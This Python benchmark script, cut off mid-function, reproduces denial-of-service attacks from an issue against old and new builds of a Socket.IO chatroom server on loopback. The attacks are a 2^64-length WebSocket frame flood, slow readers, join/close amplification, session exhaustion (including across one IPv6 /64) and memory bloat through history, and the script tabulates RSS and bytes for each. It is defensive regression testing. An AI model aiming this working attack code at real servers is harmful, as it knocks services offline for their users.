#!/usr/bin/env python3
"""The attacks of issue 9, performed against two builds of chatroom, side by side.

    python3 bench/attacks_before_after.py OLD_BINARY NEW_BINARY [--only 1,2,...]
                                          [--members 900]

Each attack is what issue 9 describes, done by the same clients against both servers,
one server at a time, on loopback (servers listen on 127.0.0.1; the IPv6 case runs in a
network namespace of its own). Servers run under `nice -n 5` with default flags unless the
issue's measurement used others. Each attack is bounded to about 60 s and stops early if
the server's RSS passes 3 GB. Clients that should look like different people connect from
different 127.x.y.z addresses; an attacker uses one address. The result is a table:
attack | measure | before | after.

What is measured: RSS from /proc/PID/status (start -> end, and the peak seen by sampling
every 20 ms), bytes the server wrote from /proc/PID/io (wchar), bytes counted at the
clients, whether a client was dropped and the reason in the server's log, HTTP statuses.
"""
import argparse
import base64
import json
import os
import re
import selectors
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import textwrap
import threading
import time

RSS_ABORT = 3 << 30      # stop an attack once the server holds this much
ATTACK_SECONDS = 60      # each attack's own time (setup not counted)
MB = 1e6
JUNK = "\0 \r\n"  # stripped from the ends of HTTP bodies shown


def log(*args):
    print("#", *args, flush=True)


# ---- servers ---------------------------------------------------------------------------

def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    def __init__(self, binary, *args):
        self.host = "127.0.0.1"
        self.port = free_port()
        self.out = tempfile.TemporaryFile()
        self.argv = ["nice", "-n", "5", binary, "--host", self.host, "--port", str(self.port),
                     *args]
        self.proc = subprocess.Popen(self.argv, stdout=self.out, stderr=subprocess.STDOUT)
        self.pid = self.proc.pid  # nice execs the server: same pid
        deadline = time.monotonic() + 30
        while True:
            if self.proc.poll() is not None:
                raise RuntimeError(f"server exited {self.proc.returncode}: {self.log()[-500:]}")
            try:
                socket.create_connection((self.host, self.port), timeout=0.5).close()
                break
            except OSError:
                if time.monotonic() > deadline:
                    self.stop()
                    raise RuntimeError("server did not start")
                time.sleep(0.05)
        self.monitor = Monitor(self.pid)

    def log(self):
        self.out.seek(0)
        return self.out.read().decode("utf-8", "replace")

    def stop(self):
        mon = getattr(self, "monitor", None)
        if mon:
            mon.stop()
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()

    def alive(self):
        return self.proc.poll() is None


def proc_status(pid, field):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(field + ":"):
                    return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


def rss(pid):
    return proc_status(pid, "VmRSS")


def wchar(pid):
    try:
        with open(f"/proc/{pid}/io") as f:
            for line in f:
                if line.startswith("wchar:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def ss_bytes_acked(port):
    """Bytes the server has had acknowledged on its open connections on `port`, summed
    over them (tcp_info bytes_acked, from ss -ti): what it sent on the connections that
    are still open, counted by the kernel."""
    r = subprocess.run(["ss", "-tinH", "state", "established", f"( sport = :{port} )"],
                       capture_output=True, text=True, timeout=30)
    return sum(int(n) for n in re.findall(r"bytes_acked:(\d+)", r.stdout))


class Monitor:
    """Samples the server's RSS every 20 ms: the peak since reset(), and `abort` set once
    it passes RSS_ABORT."""

    def __init__(self, pid):
        self.pid = pid
        self.peak = 0
        self.abort = threading.Event()
        self.done = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.done.is_set():
            r = rss(self.pid)
            self.peak = max(self.peak, r)
            if r > RSS_ABORT:
                self.abort.set()
            time.sleep(0.02)

    def reset(self):
        self.peak = rss(self.pid)

    def stop(self):
        self.done.set()
        self.thread.join(2)


def settle(srv, most=20.0):
    """Waits until the server's RSS stops growing (under 1% in 1 s), at most `most` s."""
    end = time.monotonic() + most
    last = rss(srv.pid)
    while time.monotonic() < end and not srv.monitor.abort.is_set():
        time.sleep(1)
        now = rss(srv.pid)
        if now - last < last / 100:
            return
        last = now


def fmt_mb(n):
    if n >= 1e9:
        return f"{n / 1e9:.2f} GB"
    return f"{n / MB:.0f} MB" if n >= 10 * MB else f"{n / MB:.1f} MB"


def rss_change(start, end, peak):
    return f"{fmt_mb(start)} -> {fmt_mb(end)} (peak {fmt_mb(peak)})"


def reasons(server_log, pattern=r"leave .*?: (.*)"):
    """{reason: count} of the leaves in a server's log."""
    out = {}
    for r in re.findall(pattern, server_log):
        out[r.strip()] = out.get(r.strip(), 0) + 1
    return out


# ---- clients ---------------------------------------------------------------------------

class Closed(Exception):
    pass


def ws_frame(opcode, payload=b"", fin=True, key=None):
    if isinstance(payload, str):
        payload = payload.encode()
    n = len(payload)
    head = bytes([(0x80 if fin else 0) | opcode])
    if n < 126:
        head += bytes([0x80 | n])
    elif n < 65536:
        head += bytes([0x80 | 126]) + struct.pack(">H", n)
    else:
        head += bytes([0x80 | 127]) + struct.pack(">Q", n)
    key = os.urandom(4) if key is None else key
    if n and key != b"\0\0\0\0":
        k = (key * (n // 4 + 1))[:n]
        payload = (int.from_bytes(payload, "big") ^ int.from_bytes(k, "big")).to_bytes(n, "big")
    return head + key + payload


def connect_from(host, port, source=None, rcvbuf=None, timeout=10.0, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    try:
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if source:
            s.bind((source, 0))
        s.settimeout(timeout)
        s.connect((host, port))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    except OSError:
        s.close()
        raise
    return s


class WS:
    """An Engine.IO 4 WebSocket client, by hand."""

    def __init__(self, srv, source=None, rcvbuf=None, timeout=10.0):
        self.sock = connect_from(srv.host, srv.port, source, rcvbuf, timeout)
        key = base64.b64encode(os.urandom(16)).decode()
        req = (f"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\n"
               f"Host: {srv.host}:{srv.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode()
        self.sent = len(req)
        self.sock.sendall(req)
        self.buf = b""
        while b"\r\n\r\n" not in self.buf:
            chunk = self.sock.recv(65536)
            if not chunk:
                self.sock.close()
                raise Closed("EOF during handshake")
            self.buf += chunk
        head, _, self.buf = self.buf.partition(b"\r\n\r\n")
        self.status = int(head.split(b" ", 2)[1])
        self.close_code = None
        if self.status != 101:
            self.sock.close()
            raise Closed(f"HTTP {self.status}")

    def send(self, opcode, payload, **kw):
        f = ws_frame(opcode, payload, **kw)
        self.sock.sendall(f)
        self.sent += len(f)

    def send_text(self, text):
        self.send(0x1, text)

    def _read_exact(self, n):
        while len(self.buf) < n:
            chunk = self.sock.recv(1 << 20)
            if not chunk:
                raise Closed("EOF")
            self.buf += chunk
        out, self.buf = self.buf[:n], self.buf[n:]
        return out

    def recv_frame(self, timeout=10.0):
        self.sock.settimeout(timeout)
        b0, b1 = self._read_exact(2)
        n = b1 & 0x7F
        if n == 126:
            n = struct.unpack(">H", self._read_exact(2))[0]
        elif n == 127:
            n = struct.unpack(">Q", self._read_exact(8))[0]
        payload = self._read_exact(n)
        if b0 & 0x0F == 0x8:
            self.close_code = struct.unpack(">H", payload[:2])[0] if len(payload) >= 2 else 1005
        return b0 & 0x0F, payload

    def recv_message(self, timeout=10.0):
        deadline = time.monotonic() + timeout
        while True:
            op, payload = self.recv_frame(max(0.01, deadline - time.monotonic()))
            if op == 0x8:
                raise Closed(f"close frame {self.close_code}")
            if op == 0x9:
                self.send(0xA, payload)
                continue
            if op == 0x1:
                text = payload.decode()
                if text == "2":  # Engine.IO ping
                    self.send_text("3")
                    continue
                return text
            if op == 0x2:
                return payload

    def join(self, timeout=10.0):
        """Reads the open packet, sends CONNECT, returns the answer ("40..." or "44...")."""
        assert self.recv_message(timeout).startswith("0")
        self.send_text("40")
        while True:
            m = self.recv_message(timeout)
            if isinstance(m, str) and m[:2] in ("40", "44"):
                return m

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def joined(srv, source, rcvbuf=None):
    ws = WS(srv, source, rcvbuf)
    answer = ws.join()
    if not answer.startswith("40"):
        ws.close()
        raise RuntimeError(f"join from {source} refused: {answer}")
    return ws


def msg_frame_text(size, tag):
    """A 42["msg",{...}] text of about `size` bytes."""
    head = '42["msg",{"msg":"%s ' % tag
    tail = '"}]'
    return head + "x" * (size - len(head) - len(tail)) + tail


class Watcher(threading.Thread):
    """A member that reads everything and counts what it sees."""

    def __init__(self, ws):
        super().__init__(daemon=True)
        self.ws = ws
        self.msgs = 0
        self.logins = 0
        self.stop_ = threading.Event()
        self.closed = False
        self.cond = threading.Condition()
        self.start()

    def run(self):
        while not self.stop_.is_set():
            try:
                m = self.ws.recv_message(timeout=0.5)
            except socket.timeout:
                continue
            except (Closed, OSError):
                self.closed = True
                return
            if isinstance(m, str) and m.startswith('42["msg",'):
                with self.cond:
                    if '"action":"login"' in m[:200]:
                        self.logins += 1
                    elif '"action":"logout"' not in m[:200]:
                        self.msgs += 1
                    self.cond.notify_all()

    def wait(self, what, n, timeout):
        end = time.monotonic() + timeout
        with self.cond:
            while getattr(self, what) < n:
                left = end - time.monotonic()
                if left <= 0:
                    return False
                self.cond.wait(left)
        return True

    def stop(self):
        self.stop_.set()
        self.join(3)
        self.ws.close()


class Http:
    """One Engine.IO polling client: a keep-alive HTTP connection from a source address."""

    def __init__(self, srv, source):
        self.srv, self.source = srv, source
        self.sock = None
        self.sid = None

    def request(self, method, query, body=b"", timeout=10.0):
        if self.sock is None:
            self.sock = connect_from(self.srv.host, self.srv.port, self.source)
        self.sock.settimeout(timeout)
        head = (f"{method} /socket.io/?{query} HTTP/1.1\r\nHost: x\r\n"
                f"Content-Length: {len(body)}\r\n"
                + ("Content-Type: text/plain;charset=UTF-8\r\n" if body else "") + "\r\n")
        self.sock.sendall(head.encode() + body)
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise Closed("EOF")
            data += chunk
        head, _, rest = data.partition(b"\r\n\r\n")
        status = int(head.split(b" ")[1])
        length = 0
        close = False
        for line in head.split(b"\r\n")[1:]:
            k, _, v = line.partition(b":")
            if k.strip().lower() == b"content-length":
                length = int(v)
            if k.strip().lower() == b"connection" and v.strip().lower() == b"close":
                close = True
        while len(rest) < length:
            chunk = self.sock.recv(1 << 20)
            if not chunk:
                break
            rest += chunk
        if close:
            self.close()
        return status, rest.decode("utf-8", "replace")

    def handshake(self):
        status, body = self.request("GET", "EIO=4&transport=polling")
        if status == 200:
            self.sid = json.loads(body.split("\x1e")[0][1:])["sid"]
        return status, body

    def get(self, timeout=10.0):
        return self.request("GET", f"EIO=4&transport=polling&sid={self.sid}", timeout=timeout)

    def post(self, body):
        return self.request("POST", f"EIO=4&transport=polling&sid={self.sid}", body.encode())

    def close(self):
        if self.sock:
            self.sock.close()
            self.sock = None


def addr(net, i):
    """The i-th client address of a 127.NET.0.0/16."""
    return f"127.{net}.{i // 250}.{i % 250 + 1}"


# ---- the attacks -------------------------------------------------------------------------

def attack1(binary):
    """A 20-byte FIN=0 text fragment, then a continuation whose 64-bit length is 2^64-10,
    then 300 MB of its 'payload' as fast as TCP takes it, from a connection that never
    joins."""
    srv = Server(binary)
    ws = None
    try:
        ws = WS(srv, "127.1.0.1")
        assert ws.recv_message().startswith("0")
        time.sleep(0.2)
        r0 = rss(srv.pid)
        srv.monitor.reset()
        ws.send(0x1, "4" + "x" * 19, fin=False)
        ws.sock.sendall(bytes([0x00, 0x80 | 127]) + struct.pack(">Q", 2**64 - 10) + b"\0" * 4)
        chunk = b"\0" * (1 << 20)
        sent, target = 0, 300 * MB
        ws.sock.settimeout(2)
        answer = {"what": None}
        done = threading.Event()

        def listen():  # what the server says, and after how many of our bytes
            while not done.is_set():
                try:
                    op, _ = ws.recv_frame(timeout=2)
                except socket.timeout:
                    continue
                except (Closed, OSError):
                    answer["what"] = answer["what"] or \
                        f"connection closed, no close frame (after {fmt_mb(sent)} sent)"
                    return
                if op == 0x8:
                    answer["what"] = f"close {ws.close_code} after {fmt_mb(sent)} sent"

        listener = threading.Thread(target=listen, daemon=True)
        listener.start()
        t0 = time.monotonic()
        stopped = "sent it all"
        try:
            while sent < target:
                if srv.monitor.abort.is_set():
                    stopped = "RSS passed 3 GB"
                    break
                if time.monotonic() - t0 > ATTACK_SECONDS:
                    stopped = "time cap"
                    break
                ws.sock.sendall(chunk)
                sent += len(chunk)
        except socket.timeout:
            stopped = "server stopped reading (send blocked 2 s)"
        except OSError as e:
            stopped = f"connection reset by server ({e.__class__.__name__})"
        took = time.monotonic() - t0
        time.sleep(2)
        r1 = rss(srv.pid)
        done.set()
        listener.join(3)
        answer = answer["what"] or "none: connection still open, its bytes still taken, 2 s later"
        return {
            "server RSS": rss_change(r0, r1, srv.monitor.peak),
            "attacker bytes sent, time": f"{fmt_mb(sent)} in {took:.1f} s ({stopped})",
            "server's answer": answer,
        }
    finally:
        if ws:
            ws.close()
        srv.stop()


def attack2(binary, args=(), rate=1 << 20, label="default flags", rcvbuf=None):
    """One member reads at `rate` bytes a second; another client sends 40 messages of
    about 1 MB, one every 50 ms (2 s, if TCP takes them). Is the reader dropped?"""
    srv = Server(binary, *args)
    member = sender = None
    try:
        member = joined(srv, "127.2.0.1", rcvbuf=rcvbuf)
        sender = joined(srv, "127.2.0.2")
        while True:  # up to the sender's login
            m = member.recv_message()
            if isinstance(m, str) and '"action":"login"' in m:
                break
        srv.monitor.reset()
        r0 = rss(srv.pid)
        stop = threading.Event()
        got = {"bytes": len(member.buf), "closed_at": None}
        t0 = time.monotonic()

        def read():
            s = member.sock
            s.settimeout(0.2)
            chunk = max(1024, rate // 16)
            while not stop.is_set():
                try:
                    data = s.recv(chunk)
                except socket.timeout:
                    continue
                except OSError:
                    got["closed_at"] = time.monotonic() - t0
                    return
                if not data:
                    got["closed_at"] = time.monotonic() - t0
                    return
                got["bytes"] += len(data)
                time.sleep(len(data) / rate)

        sent = {"n": 0, "done_at": None}
        text = msg_frame_text(990_000, "big")
        frame = ws_frame(0x1, text)

        def flood():
            sender.sock.settimeout(ATTACK_SECONDS)
            try:
                for i in range(40):
                    due = t0 + i * 0.05
                    if time.monotonic() < due:
                        time.sleep(due - time.monotonic())
                    sender.sock.sendall(frame)
                    sent["n"] += 1
                sent["done_at"] = time.monotonic() - t0
            except OSError:
                pass

        def echoes():  # the sender reads its own messages as fast as they come
            s = sender.sock
            s.settimeout(0.2)
            while not stop.is_set():
                try:
                    if not s.recv(1 << 20):
                        return
                except socket.timeout:
                    continue
                except OSError:
                    return

        threads = [threading.Thread(target=read, daemon=True),
                   threading.Thread(target=flood, daemon=True),
                   threading.Thread(target=echoes, daemon=True)]
        for t in threads:
            t.start()
        observe = 25
        while time.monotonic() - t0 < observe and got["closed_at"] is None \
                and not srv.monitor.abort.is_set():
            time.sleep(0.1)
        if got["closed_at"] is not None:
            time.sleep(0.5)
        stop.set()
        threads[0].join(2)
        r1 = rss(srv.pid)
        why = reasons(srv.log())
        dropped = (f"yes, after {got['closed_at']:.1f} s ({', '.join(why) or '?'})"
                   if got["closed_at"] is not None else f"no (watched {observe} s)")
        s_done = (f"all 40 in {sent['done_at']:.1f} s" if sent["done_at"] is not None
                  else f"{sent['n']} of 40 in {observe} s (TCP held the rest)")
        return {
            f"member reading {rate // 1024} KiB/s dropped? [{label}]": dropped,
            f"bytes the member read [{label}]": fmt_mb(got["bytes"]),
            f"sender's 990 kB messages written to its socket [{label}]": s_done,
            f"server RSS [{label}]": rss_change(r0, r1, srv.monitor.peak),
        }
    finally:
        for ws in (member, sender):
            if ws:
                ws.close()
        srv.stop()


class Drainer:
    """Many WebSocket members read by one thread with a selector: each one's frames are
    parsed only as far as their headers (payloads are counted and skipped), Engine.IO
    pings are answered, hang-ups are counted."""

    def __init__(self):
        self.sel = selectors.DefaultSelector()
        self.bytes = 0
        self.dropped = 0
        self.buf = bytearray(1 << 20)
        self.view = memoryview(self.buf)

    def add(self, ws):
        st = {"ws": ws, "hdr": bytearray(), "skip": 0, "cap": None, "op": 0}
        ws.sock.setblocking(False)
        self.sel.register(ws.sock, selectors.EVENT_READ, st)
        if ws.buf:
            self.bytes += len(ws.buf)
            self._feed(st, memoryview(ws.buf))
            ws.buf = b""

    def _small(self, st, op, payload):
        if op == 0x1 and payload == b"2":
            try:
                st["ws"].sock.send(ws_frame(0x1, "3"))
            except OSError:
                pass
        elif op == 0x9:
            try:
                st["ws"].sock.send(ws_frame(0xA, bytes(payload)))
            except OSError:
                pass

    def _feed(self, st, mv):
        i, n = 0, len(mv)
        while i < n:
            if st["skip"]:
                take = min(st["skip"], n - i)
                if st["cap"] is not None:
                    st["cap"] += mv[i:i + take]
                st["skip"] -= take
                i += take
                if st["skip"] == 0 and st["cap"] is not None:
                    self._small(st, st["op"], st["cap"])
                    st["cap"] = None
                continue
            hdr = st["hdr"]
            need = 2
            if len(hdr) >= 2:
                need = 2 + {126: 2, 127: 8}.get(hdr[1] & 0x7F, 0)
            if len(hdr) < need:
                take = min(need - len(hdr), n - i)
                hdr += mv[i:i + take]
                i += take
                if len(hdr) < 2:
                    continue
                need = 2 + {126: 2, 127: 8}.get(hdr[1] & 0x7F, 0)
                if len(hdr) < need:
                    continue
            ln = hdr[1] & 0x7F
            if ln == 126:
                ln = struct.unpack(">H", hdr[2:4])[0]
            elif ln == 127:
                ln = struct.unpack(">Q", hdr[2:10])[0]
            op = hdr[0] & 0x0F
            st["hdr"] = bytearray()
            st["op"] = op
            if ln <= 8 or op in (0x8, 0x9):
                if ln == 0:
                    self._small(st, op, b"")
                else:
                    st["cap"] = bytearray()
            st["skip"] = ln

    def poll(self, timeout):
        for key, _ in self.sel.select(timeout):
            st = key.data
            try:
                n = key.fileobj.recv_into(self.buf)
            except BlockingIOError:
                continue
            except OSError:
                n = 0
            if n == 0:
                self.sel.unregister(key.fileobj)
                key.fileobj.close()
                self.dropped += 1
                continue
            self.bytes += n
            self._feed(st, self.view[:n])

    def drain(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.poll(0.05)

    def close(self):
        for key in list(self.sel.get_map().values()):
            key.fileobj.close()
        self.sel.close()


def attack3(binary, members=900, cycles=100, label="", seconds=None):
    """`members` legacy members (plain "40": whole name_lists) read everything; then one
    address makes `cycles` join-then-close cycles as fast as it can (or as many as it can
    in `seconds`). Bytes the server sends the members from the first cycle until they
    have read everything."""
    srv = Server(binary)
    d = Drainer()
    try:
        t_setup = time.monotonic()
        for i in range(members):
            ws = WS(srv, addr(3, i))
            ws.send_text("40")
            d.add(ws)
            d.poll(0)
            if i % 100 == 99:
                log(f"  {i + 1} members connected, {time.monotonic() - t_setup:.0f} s, "
                    f"read {fmt_mb(d.bytes)}, dropped {d.dropped}")
            if time.monotonic() - t_setup > 300:
                raise RuntimeError(f"setup: only {i} members joined in 300 s")
        # wait until everything the joins made has been read
        last, still = d.bytes, 0
        while still < 1.0:
            d.drain(0.25)
            # quiet: under 25 kB in 0.25 s (Engine.IO pings keep trickling in)
            still = still + 0.25 if d.bytes - last < 25_000 else 0
            last = d.bytes
            if time.monotonic() - t_setup > 300:
                raise RuntimeError(f"setup: the members were still reading after 300 s "
                                   f"({fmt_mb(d.bytes)})")
        setup_s = time.monotonic() - t_setup
        log(f"  {members} members joined, the room quiet, in {setup_s:.0f} s; they read "
            f"{fmt_mb(d.bytes)}; dropped while joining: {d.dropped}")
        drops0 = d.dropped
        w0, b0, k0 = wchar(srv.pid), d.bytes, ss_bytes_acked(srv.port)
        srv.monitor.reset()
        r0 = rss(srv.pid)
        att = {"sent": 0, "joined": 0, "refused": 0, "errors": 0, "done_at": None, "answers": set()}
        t0 = time.monotonic()

        def attacker():
            for _ in range(cycles or 10**9):
                if time.monotonic() - t0 > (seconds or ATTACK_SECONDS) \
                        or srv.monitor.abort.is_set():
                    break
                try:
                    ws = WS(srv, "127.3.250.250")
                    answer = ws.join()
                    att["sent"] += ws.sent
                    if answer.startswith("40"):
                        att["joined"] += 1
                    else:
                        att["refused"] += 1
                        att["answers"].add(answer[:90])
                    ws.close()
                except (OSError, Closed, AssertionError) as e:
                    att["errors"] += 1
                    att["answers"].add(repr(e)[:90])
            att["done_at"] = time.monotonic() - t0

        th = threading.Thread(target=attacker, daemon=True)
        th.start()
        # until the members have read everything: nothing new (but pings) for 1.5 s after
        # the last cycle
        last, last_change, stopped = d.bytes, time.monotonic(), "all read"
        while True:
            d.drain(0.25)
            now = time.monotonic()
            if d.bytes - last >= 25_000:  # more than pings
                last_change = now
            last = d.bytes
            if att["done_at"] is not None and now - last_change > 1.5:
                break
            if now - t0 > ATTACK_SECONDS + (seconds or 0):
                stopped = "time cap: still sending"
                break
            if srv.monitor.abort.is_set():
                stopped = "RSS passed 3 GB"
                break
        th.join(5)
        w1, k1 = wchar(srv.pid), ss_bytes_acked(srv.port)
        r1 = rss(srv.pid)
        took = last_change - t0
        why = reasons(srv.log())
        why = {k: v for k, v in why.items() if "transport close" not in k and "closed" not in k}
        sfx = f" [{label}]" if label else ""
        out = {
            f"attacker: cycles joined / refused, bytes sent{sfx}":
                f"{att['joined']} / {att['refused'] + att['errors']}, {att['sent'] / 1000:.0f} kB"
                + f" (cycles done in {att['done_at']:.1f} s)",
            f"server sent to the members (read at the members), time{sfx}":
                f"{fmt_mb(d.bytes - b0)} in {took:.1f} s ({stopped})",
            f"same, as the server's TCP counts it (bytes_acked, ss -ti){sfx}": fmt_mb(k1 - k0),
            f"server wchar delta (/proc/PID/io){sfx}":
                f"{fmt_mb(w1 - w0)} (sendmsg is not counted in wchar: log lines only)",
            f"members dropped{sfx}": f"{d.dropped - drops0} of {members}"
                + (f" ({', '.join(f'{k}: {v}' for k, v in why.items())})" if why else ""),
            f"server RSS{sfx}": rss_change(r0, r1, srv.monitor.peak),
        }
        if att["answers"]:
            out[f"attacker refused with{sfx}"] = "; ".join(sorted(att["answers"]))[:160]
        return out
    finally:
        d.close()
        srv.stop()


def still_open(sessions):
    """How many of these polling sessions the server still has: a noop POST ("6") is
    answered 200 for an open session, 400 for one it has closed."""
    n = 0
    for h in sessions:
        try:
            n += h.post("6")[0] == 200
        except (OSError, Closed):
            pass
        h.close()
    return n


def attack4(binary):
    """--max-clients 20: one address opens Engine.IO sessions (polling handshakes, never
    joins) until refused; then a newcomer from another address tries to get in."""
    srv = Server(binary, "--max-clients", "20")
    held = []
    try:
        refusal = ""
        for _ in range(100):
            h = Http(srv, "127.4.0.1")
            status, body = h.handshake()
            h.close()
            if status != 200:
                refusal = f"{status} {body.strip(JUNK)[:60]}"
                break
            held.append(h)
        n = len(held)
        new = Http(srv, "127.4.0.2")
        status, body = new.handshake()
        came = f"HTTP {status}" + ("" if status == 200 else f" {body.strip(JUNK)[:60]}")
        if status == 200:
            new.post("40")
            _, got = new.get(timeout=5)
            came += ", joined the room" if "40{" in got else f", CONNECT answer {got[:60]!r}"
        alive = still_open(held)
        new.close()
        return {
            "attacker's handshakes (one address, up to 100) accepted":
                f"{n}" + (f", then {refusal}" if refusal else ""),
            "newcomer from another address": came,
            "attacker's sessions still open at the end (capacity 38)": f"{alive}",
        }
    finally:
        srv.stop()


def attack4_joined(binary):
    """The same, but the attacker joins the room with every session it gets."""
    srv = Server(binary, "--max-clients", "20")
    try:
        places = sessions = 0
        held = []
        for _ in range(100):
            h = Http(srv, "127.4.0.1")
            status, _ = h.handshake()
            if status != 200:
                break
            sessions += 1
            h.post("40")
            _, got = h.get(timeout=5)
            places += "40{" in got
            h.close()
            held.append(h)
        new = Http(srv, "127.4.0.2")
        status, body = new.handshake()
        came = f"HTTP {status}"
        if status == 200:
            new.post("40")
            _, got = new.get(timeout=5)
            came += ", joined the room" if "40{" in got else \
                f", refused: {got.split(chr(0x1e))[0][:60]}"
        alive = still_open(held)
        new.close()
        return {"[attacker joins with each session] room places it got (of 20), "
                "handshakes accepted (up to 100)": f"{places}, {sessions}",
                "[attacker joins with each session] newcomer": came,
                "[attacker joins with each session] its sessions still open at the end":
                f"{alive}"}
    finally:
        srv.stop()


IPV6 = textwrap.dedent(r"""
    # In a network namespace of its own: lo with N addresses in 2001:db8:1::/64 (one
    # attacker's /64), a newcomer in 2001:db8:2::/64, the server on 2001:db8:ff::1.
    import json, socket, subprocess, sys, time
    binary, n = sys.argv[1], int(sys.argv[2])
    cmds = ["addr add 2001:db8:ff::1/128 dev lo nodad", "addr add 2001:db8:2::1/128 dev lo nodad"]
    cmds += [f"addr add 2001:db8:1::{i + 1:x}/128 dev lo nodad" for i in range(n)]
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    subprocess.run(["ip", "-6", "-batch", "-"], input="\n".join(cmds) + "\n", text=True, check=True)
    p = subprocess.Popen(["nice", "-n", "5", binary, "--host", "2001:db8:ff::1", "--port", "5000"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(200):
            try:
                socket.create_connection(("2001:db8:ff::1", 5000)).close(); break
            except OSError: time.sleep(0.05)
        def handshake(source):
            c = socket.socket(socket.AF_INET6)
            c.bind((source, 0)); c.settimeout(10)
            c.connect(("2001:db8:ff::1", 5000))
            c.sendall(b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n\r\n")
            data = b""
            while b"\r\n" not in data:
                data += c.recv(4096)
            c.close()
            return int(data.split()[1])
        codes = [handshake(f"2001:db8:1::{i + 1:x}") for i in range(n)]
        newcomer = handshake("2001:db8:2::1")
        print(json.dumps({"held": codes.count(200),
                          "refused": {str(c): codes.count(c) for c in set(codes) if c != 200},
                          "newcomer": newcomer}))
    finally:
        p.terminate(); p.wait(10)
""")


def attack4_ipv6(binary, n=400):
    """One session from each of n addresses of one IPv6 /64 (default flags)."""
    r = subprocess.run(["unshare", "-n", sys.executable, "-c", IPV6, binary, str(n)],
                       capture_output=True, text=True, timeout=120)
    if r.returncode != 0:
        raise RuntimeError(r.stderr.strip()[-300:])
    out = json.loads(r.stdout.strip().splitlines()[-1])
    refused = ", ".join(f"{v} got {k}" for k, v in out["refused"].items())
    return {f"[IPv6] sessions held by {n} addresses of one /64 (default flags)":
            f"{out['held']} of {n}" + (f" ({refused})" if refused else ""),
            "[IPv6] newcomer from another /64": f"HTTP {out['newcomer']}"}


def fill_history(srv, watcher, count, size, net):
    """`count` messages of `size` bytes, each from a talker of its own (own address) that
    joins, says it, and leaves once the watcher has seen it."""
    for i in range(count):
        t = joined(srv, addr(net, 200 + i))
        t.send_text(msg_frame_text(size, f"h{i}"))
        ok = watcher.wait("msgs", i + 1, 30)
        t.close()
        if not ok:
            raise RuntimeError(f"message {i} did not arrive")


def attack5a(binary):
    """History: 50 messages of 155 kB (7.8 MB, within the old server's history bound of
    queue-limit/4). Then 200 newcomers (each its own address, receive buffer 4 KiB) join
    and never read."""
    srv = Server(binary)
    crowd = []
    watcher = None
    try:
        watcher = Watcher(joined(srv, addr(5, 0)))
        fill_history(srv, watcher, 50, 155_000, 5)
        time.sleep(1)
        logins0 = watcher.logins
        log0 = len(srv.log())  # leaves before this are the talkers'
        srv.monitor.reset()
        r0 = rss(srv.pid)
        t0 = time.monotonic()
        stopped = "all joined"
        for i in range(200):
            if srv.monitor.abort.is_set():
                stopped = "RSS passed 3 GB"
                break
            ws = WS(srv, addr(5, 1000 + i), rcvbuf=4096)
            ws.send_text("40")  # and never reads again
            crowd.append(ws)
        if not watcher.wait("logins", logins0 + len(crowd), ATTACK_SECONDS):
            stopped = f"only {watcher.logins - logins0} joined in {ATTACK_SECONDS} s"
        took = time.monotonic() - t0
        settle(srv)
        r1 = rss(srv.pid)
        why = reasons(srv.log()[log0:])
        return {
            "200 joiners that never read: server RSS":
                rss_change(r0, r1, srv.monitor.peak) + f", {took:.1f} s ({stopped})",
            "200 joiners: dropped": ", ".join(f"{k}: {v}" for k, v in why.items()
                                              if "closed" not in k) or "none",
        }
    finally:
        for ws in crowd:
            ws.close()
        if watcher:
            watcher.stop()
        srv.stop()


def attack5b(binary):
    """100 polling members (own addresses); 16 talkers (own addresses) each send one
    message of 990 kB; then each member sends its next GET on a socket with a 4 KiB
    receive buffer and never reads the answer (16 packets, ~16 MB)."""
    srv = Server(binary)
    talkers, members, raws = [], [], []
    watcher = None
    try:
        watcher = Watcher(joined(srv, addr(6, 0)))
        for i in range(16):
            talkers.append(joined(srv, addr(6, 300 + i)))
        for i in range(100):
            h = Http(srv, addr(6, 1 + i))
            status, body = h.handshake()
            if status != 200:
                raise RuntimeError(f"member handshake {status} {body[:80]}")
            h.post("40")
            members.append(h)
        total = 1 + 16 + 100
        for h in members:  # read up to the last member's login: the queue is empty then
            for _ in range(40):
                _, body = h.get()
                if any('"action":"login"' in p and p.count("],[") + 1 == total
                       for p in body.split("\x1e")):
                    break
        for i, t in enumerate(talkers):
            t.send_text(msg_frame_text(990_000, f"p{i}"))
            if not watcher.wait("msgs", i + 1, 30):
                raise RuntimeError(f"message {i} did not arrive")
        time.sleep(0.5)
        srv.monitor.reset()
        r0 = rss(srv.pid)
        log0 = len(srv.log())
        for h in members:
            raw = connect_from(srv.host, srv.port, h.source, rcvbuf=4096)
            raw.sendall(f"GET /socket.io/?EIO=4&transport=polling&sid={h.sid} HTTP/1.1\r\n"
                        f"Host: x\r\n\r\n".encode())
            raws.append(raw)
        time.sleep(1)
        settle(srv)
        r1 = rss(srv.pid)
        why = reasons(srv.log()[log0:])
        return {
            "100 slow-reading polling members: server RSS": rss_change(r0, r1, srv.monitor.peak),
            "100 polling members: dropped": ", ".join(f"{k}: {v}" for k, v in why.items()
                                                      if "closed" not in k) or "none",
